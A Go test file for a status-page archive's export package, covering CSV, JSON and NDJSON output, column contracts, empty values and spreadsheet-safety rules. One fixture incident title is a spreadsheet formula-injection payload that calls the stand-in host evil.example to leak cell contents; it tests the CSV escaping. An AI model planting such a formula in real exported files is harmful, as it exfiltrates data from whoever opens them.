package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"iter"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/statusarchive/statusarchive/archive"
	"github.com/statusarchive/statusarchive/archive/stats"
	"github.com/statusarchive/statusarchive/parser"

	"github.com/statusarchive/statusarchive/fixtures/golden"
)

func mustTime(t testing.TB, s string) time.Time {
	t.Helper()
	v, err := time.Parse(time.RFC3339, s)
	if err != nil {
		t.Fatalf("bad test time %q: %v", s, err)
	}
	return v.UTC()
}

func ptime(t testing.TB, s, text string) parser.Time { return parser.NewTime(mustTime(t, s), text) }

// sampleRows covers a stated window, an open incident with components, a
// single-update incident, a hostile title and a deleted version.
func sampleRows(t testing.TB) []archive.Row {
	seen := mustTime(t, "2026-06-23T08:00:00Z")
	rows := []archive.Row{
		{
			Incident: parser.Incident{
				Source: "workos", ID: "k-1", Kind: parser.KindIncident, Title: "Elevated API Errors",
				Status: parser.StatusResolved, StatusRaw: "Resolved",
				Updates: []parser.Update{
					// Newest first, as Statuspage lists them: exports sort.
					{Status: parser.StatusResolved, StatusRaw: "resolved", At: ptime(t, "2026-06-22T18:01:00Z", "Jun 22, 2026, 06:01 PM UTC"),
						Body: "From 13:35 UTC to 14:24 UTC users connecting through our Chicago (ORD) edge node may have experienced elevated API error rates."},
					{Status: parser.StatusInvestigating, StatusRaw: "investigating", At: ptime(t, "2026-06-22T14:03:00Z", "Jun 22, 2026, 02:03 PM UTC"),
						Body: "We are investigating elevated error rates across our API."},
				},
			},
			Version: 1, FirstSeen: seen, LastSeen: seen,
		},
		{
			Incident: parser.Incident{
				Source: "acme", ID: "inc-2", Kind: parser.KindIncident, Title: "Login failures, \"SSO\" only",
				URL: "https://status.acme.example/incidents/inc-2", Impact: parser.ImpactMajor, ImpactRaw: "impact-major",
				Status: parser.StatusMonitoring, StatusRaw: "Monitoring",
				Components: []parser.Component{{Name: "SSO", Status: "partial_outage", StatusRaw: "Partial Outage"}, {Name: "API", Status: "operational", StatusRaw: "Operational"}},
				Started:    ptime(t, "2026-06-20T09:00:00Z", ""),
				Updates: []parser.Update{
					{Status: parser.StatusInvestigating, StatusRaw: "Investigating", At: ptime(t, "2026-06-20T09:05:00Z", ""), Body: "Looking into it.\nMore soon.", Components: []string{"SSO"}},
					{Status: parser.StatusMonitoring, StatusRaw: "Monitoring", At: ptime(t, "2026-06-20T10:00:00Z", ""), Body: "A fix is out."},
				},
			},
			Version: 3, FirstSeen: seen, LastSeen: seen.Add(time.Hour),
		},
		{
			Incident: parser.Incident{
				Source: "acme", ID: "inc-3", Kind: parser.KindIncident, Title: `=HYPERLINK("http://evil.example/?"&A1,"details")`,
				Status:  parser.StatusResolved,
				Updates: []parser.Update{{Status: parser.StatusResolved, StatusRaw: "Resolved", At: ptime(t, "2026-05-14T15:12:00Z", ""), Body: "-2 services degraded"}},
			},
			Version: 1, FirstSeen: seen, LastSeen: seen,
		},
		{
			Incident: parser.Incident{Source: "acme", ID: "inc-4", Kind: parser.KindMaintenance, Title: "Database upgrade", Impact: parser.ImpactMaintenance,
				ScheduledFor: ptime(t, "2026-07-01T22:00:00Z", ""), ScheduledUntil: ptime(t, "2026-07-02T01:00:00Z", ""), Partial: true,
				Truncated: true, Incomplete: true},
			Version: 2, FirstSeen: seen, LastSeen: seen, Deleted: true,
		},
	}
	// As the archive holds them: with the windows the parser reads.
	for i := range rows {
		rows[i].Incident.ReadWindows()
	}
	return rows
}

// seq yields rows, then err if it is not nil.
func seq(rows []archive.Row, err error) iter.Seq2[archive.Row, error] {
	return func(yield func(archive.Row, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
		if err != nil {
			yield(archive.Row{}, err)
		}
	}
}

func write(t testing.TB, table Table, format Format, rows []archive.Row, opts Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, table, format, seq(rows, nil), opts); err != nil {
		t.Fatalf("Write(%s, %s): %v", table, format, err)
	}
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	rows := sampleRows(t)
	for _, table := range []Table{TableIncidents, TableUpdates, TableComponents} {
		for _, format := range []Format{FormatCSV, FormatJSON, FormatNDJSON} {
			t.Run(string(table)+"."+string(format), func(t *testing.T) {
				golden.Check(t, filepath.Join("testdata", string(table)+"."+string(format)), write(t, table, format, rows, Options{}))
			})
		}
	}
	t.Run("monthly.csv", func(t *testing.T) {
		sums := []stats.Summary{{Source: "acme", Months: []stats.Month{
			{Month: "2026-05", Incidents: 2, Downtime: 90 * time.Minute},
			{Month: "2026-06", Incidents: 0, Maintenance: 1},
		}}}
		for _, format := range []Format{FormatCSV, FormatJSON, FormatNDJSON} {
			var b bytes.Buffer
			if err := WriteMonthly(&b, format, sums, Options{}); err != nil {
				t.Fatalf("WriteMonthly: %v", err)
			}
			golden.Check(t, filepath.Join("testdata", "monthly."+string(format)), b.Bytes())
		}
	})
}

// contract is the foundation export contract: these keys, in this order,
// come first; more may follow.
var contract = map[Table][]string{
	TableIncidents: {"source", "id", "title", "url", "impact", "status", "started_at", "resolved_at", "duration_minutes",
		"first_seen", "last_seen", "version", "updates"},
	TableUpdates: {"source", "incident_id", "position", "status", "at", "text"},
}

var contractCSV = map[Table][]string{
	TableIncidents: {"source", "id", "title", "url", "impact", "status", "started_at", "resolved_at", "duration_minutes",
		"first_seen", "last_seen", "version", "update_count"},
	TableUpdates: {"source", "incident_id", "position", "status", "at", "text"},
}

var contractUpdate = []string{"status", "raw_status", "at", "at_text", "text"}

// objectKeys returns the keys of the JSON object in line, in order, and the
// keys of the objects of its "updates" array, in first-seen order.
func objectKeys(t *testing.T, line []byte) (keys, updateKeys []string) {
	t.Helper()
	type frame struct {
		object, wantKey bool
		key             string // the key this container is the value of
	}
	var stack []frame
	lastKey := ""
	dec := json.NewDecoder(bytes.NewReader(line))
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			return keys, updateKeys
		}
		if err != nil {
			t.Fatalf("JSON %s: %v", line, err)
		}
		if d, ok := tok.(json.Delim); ok && (d == '}' || d == ']') {
			stack = stack[:len(stack)-1]
			if n := len(stack); n > 0 && stack[n-1].object {
				stack[n-1].wantKey = true
			}
			continue
		}
		if n := len(stack); n > 0 && stack[n-1].object && stack[n-1].wantKey {
			key := tok.(string)
			switch {
			case n == 1:
				keys = append(keys, key)
			case n == 3 && stack[1].key == "updates" && !slices.Contains(updateKeys, key):
				updateKeys = append(updateKeys, key)
			}
			stack[n-1].wantKey, lastKey = false, key
			continue
		}
		if d, ok := tok.(json.Delim); ok {
			stack = append(stack, frame{object: d == '{', wantKey: d == '{', key: lastKey})
			continue
		}
		if n := len(stack); n > 0 && stack[n-1].object {
			stack[n-1].wantKey = true
		}
	}
}

func TestKeyContract(t *testing.T) {
	rows := sampleRows(t)
	for _, table := range []Table{TableIncidents, TableUpdates} {
		t.Run(string(table), func(t *testing.T) {
			var jsonCols, csvCols []string
			for _, c := range Columns(table) {
				jsonCols = append(jsonCols, c.Name)
				if !c.JSONOnly {
					csvCols = append(csvCols, c.Name)
				}
			}
			if got := jsonCols[:len(contract[table])]; !slices.Equal(got, contract[table]) {
				t.Errorf("Columns(%s) JSON keys start %v, want %v", table, got, contract[table])
			}
			if got := csvCols[:len(contractCSV[table])]; !slices.Equal(got, contractCSV[table]) {
				t.Errorf("Columns(%s) CSV header starts %v, want %v", table, got, contractCSV[table])
			}

			out := write(t, table, FormatCSV, rows, Options{})
			header, _, _ := bytes.Cut(bytes.TrimPrefix(out, []byte("\uFEFF")), []byte("\r\n"))
			if got, want := string(header), strings.Join(csvCols, ","); got != want {
				t.Errorf("CSV header = %s, want %s", got, want)
			}

			nd := write(t, table, FormatNDJSON, rows, Options{})
			checked := 0
			for line := range bytes.Lines(nd) {
				keys, ukeys := objectKeys(t, line)
				if !slices.Equal(keys, jsonCols) {
					t.Errorf("NDJSON keys = %v, want %v", keys, jsonCols)
				}
				if len(ukeys) > 0 {
					checked++
					if !slices.Equal(ukeys, contractUpdate) {
						t.Errorf("update keys = %v, want %v", ukeys, contractUpdate)
					}
				}
			}
			if table == TableIncidents && checked == 0 {
				t.Errorf("no update objects found in the NDJSON: the update key check did not run")
			}

			var arr []json.RawMessage
			js := write(t, table, FormatJSON, rows, Options{})
			if err := json.Unmarshal(js, &arr); err != nil {
				t.Fatalf("JSON output does not parse: %v\n%s", err, js)
			}
			for _, obj := range arr {
				if keys, _ := objectKeys(t, obj); !slices.Equal(keys, jsonCols) {
					t.Errorf("JSON keys = %v, want %v", keys, jsonCols)
				}
			}
		})
	}
}

func TestEmptyValues(t *testing.T) {
	rows := []archive.Row{{Incident: parser.Incident{Source: "s", ID: "empty", Title: "t", Kind: parser.KindIncident}}}
	js := write(t, TableIncidents, FormatJSON, rows, Options{})
	var got []map[string]any
	if err := json.Unmarshal(js, &got); err != nil {
		t.Fatalf("JSON does not parse: %v", err)
	}
	for _, key := range []string{"url", "impact", "status", "started_at", "resolved_at", "duration_minutes", "first_seen", "last_seen", "version", "components", "scheduled_for", "scheduled_until"} {
		if v, ok := got[0][key]; !ok || v != nil {
			t.Errorf("JSON %s = %v (present %v), want null", key, v, ok)
		}
	}
	for _, out := range [][]byte{js, write(t, TableIncidents, FormatCSV, rows, Options{})} {
		for _, sentinel := range []string{"0001-01-01", "-1", "1970-01-01"} {
			if bytes.Contains(out, []byte(sentinel)) {
				t.Errorf("output holds sentinel %q:\n%s", sentinel, out)
			}
		}
	}
	recs := readCSV(t, write(t, TableIncidents, FormatCSV, rows, Options{}))
	if got := recs[1][6]; got != "" {
		t.Errorf("CSV started_at = %q, want an empty cell", got)
	}
	if got, want := recs[1][12], "0"; got != want {
		t.Errorf("CSV update_count = %q, want %q", got, want)
	}
}

func TestNDJSONOneObjectPerLine(t *testing.T) {
	rows := sampleRows(t)
	out := write(t, TableUpdates, FormatNDJSON, rows, Options{})
	if !bytes.HasSuffix(out, []byte("\n")) {
		t.Errorf("NDJSON does not end with a newline")
	}
	n := 0
	for line := range bytes.Lines(out) {
		n++
		var obj map[string]any
		if err := json.Unmarshal(line, &obj); err != nil {
			t.Errorf("line %d = %q: %v, want one JSON object", n, line, err)
		}
	}
	want := 0
	for _, r := range rows {
		want += len(r.Incident.Updates)
	}
	if n != want {
		t.Errorf("NDJSON lines = %d, want %d (one per update)", n, want)
	}
}

func TestWriteErrors(t *testing.T) {
	boom := errors.New("archive read failed")
	var b bytes.Buffer
	if err := Write(&b, TableIncidents, FormatJSON, seq(sampleRows(t), boom), Options{}); !errors.Is(err, boom) {
		t.Errorf("Write with a failing iterator = %v, want it to wrap %v", err, boom)
	}
	if err := Write(&b, "sheets", FormatCSV, seq(nil, nil), Options{}); !errors.Is(err, ErrUnknown) {
		t.Errorf("Write(table sheets) = %v, want ErrUnknown", err)
	}
	if err := Write(&b, TableIncidents, "xlsx", seq(nil, nil), Options{}); !errors.Is(err, ErrUnknown) {
		t.Errorf("Write(format xlsx) = %v, want ErrUnknown", err)
	}
	if _, err := ParseTable("monthly"); err != nil {
		t.Errorf("ParseTable(monthly) = %v, want nil", err)
	}
	if _, err := ParseFormat("NDJSON"); !errors.Is(err, ErrUnknown) {
		t.Errorf("ParseFormat(NDJSON) = %v, want ErrUnknown (names are lower case)", err)
	}
}

func TestEmptyExports(t *testing.T) {
	tests := []struct {
		format Format
		want   string
	}{
		{FormatJSON, "[]\n"},
		{FormatNDJSON, ""},
		{FormatCSV, "source,incident_id,name,status,status_raw,version\r\n"},
	}
	for _, tt := range tests {
		t.Run(string(tt.format), func(t *testing.T) {
			got := write(t, TableComponents, tt.format, nil, Options{NoBOM: true})
			if string(got) != tt.want {
				t.Errorf("empty %s = %q, want %q", tt.format, got, tt.want)
			}
		})
	}
}

func TestDocsUpToDate(t *testing.T) {
	var b strings.Builder
	b.WriteString("# Export formats\n\n")
	b.WriteString("<!-- Generated from archive/export/columns.go by TestDocsUpToDate: run `go test ./archive/export -update` to refresh. -->\n\n")
	fmt.Fprintf(&b, "Schema version: **%s**. Columns are only ever added, after the existing ones; removing or renaming one bumps the version.\n\n", SchemaVersion)
	b.WriteString(`Formats:

- **csv**: RFC 4180, CRLF line ends, a header row, UTF-8 with a byte-order mark (` + "`Options.NoBOM`" + ` leaves it out).
  Text cells are always quoted. For spreadsheet safety, by default a text cell whose first character (or first
  after leading spaces) is one of ` + "`= + - @`" + `, TAB, CR, LF or the full-width ` + "`＝ ＋ － ＠`" + ` gets a leading ` + "`'`" + `
  inside the quotes; NUL bytes are removed; invalid UTF-8 becomes U+FFFD; line feeds past the 253rd become spaces; a
  cell over 32,767 characters is cut and ends with ` + "`…[truncated]`" + `; an export past 1,048,575 rows fails
  rather than lose rows. The raw option (` + "`Options.Raw`" + `) turns off all of these but the NUL and UTF-8 repair: use it for
  programs, never for files people open in a spreadsheet.
- **json**: one array of objects, streamed element by element.
- **ndjson**: one object a line.

Values: times are RFC 3339 in UTC to the second (` + "`2026-06-22T13:35:00Z`" + `). An empty or unknown value is ` + "`null`" + ` in
JSON and an empty cell in CSV, never a sentinel such as ` + "`0001-01-01`" + ` or ` + "`-1`" + ` (a 0 is a real zero). Lists are JSON arrays of
strings and, in CSV, the strings joined by ` + "`; `" + `. Columns marked JSON only are left out of CSV. How started_at,
resolved_at and duration_minutes are found is explained in [stats.md](stats.md).
`)
	for _, table := range Tables() {
		fmt.Fprintf(&b, "\n## %s\n\n| column | type | description |\n|---|---|---|\n", table)
		for _, c := range Columns(table) {
			typ := c.Type
			if c.JSONOnly {
				typ += " (JSON only)"
			}
			fmt.Fprintf(&b, "| `%s` | %s | %s |\n", c.Name, typ, c.Description)
		}
	}
	golden.Check(t, filepath.Join("..", "..", "docs", "export.md"), []byte(b.String()))
}

// readCSV parses out (BOM and all) with encoding/csv.
func readCSV(t testing.TB, out []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\uFEFF"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v", err)
	}
	return recs
}

func TestCSVShape(t *testing.T) {
	out := write(t, TableIncidents, FormatCSV, sampleRows(t), Options{})
	if !bytes.HasPrefix(out, []byte("\xEF\xBB\xBF")) {
		t.Errorf("CSV does not start with a UTF-8 BOM")
	}
	// The incidents table's sample cells hold no line feed: every LF ends
	// a record and comes after a CR.
	if n, crlf := bytes.Count(out, []byte("\n")), bytes.Count(out, []byte("\r\n")); n != crlf || n != 5 {
		t.Errorf("CSV line ends: %d LF, %d CRLF, want 5 records each ending with CRLF", n, crlf)
	}
	if out := write(t, TableIncidents, FormatCSV, sampleRows(t), Options{NoBOM: true}); bytes.HasPrefix(out, []byte("\xEF\xBB\xBF")) {
		t.Errorf("CSV with NoBOM starts with a BOM")
	}
	if !utf8.Valid(out) {
		t.Errorf("CSV is not valid UTF-8")
	}
}
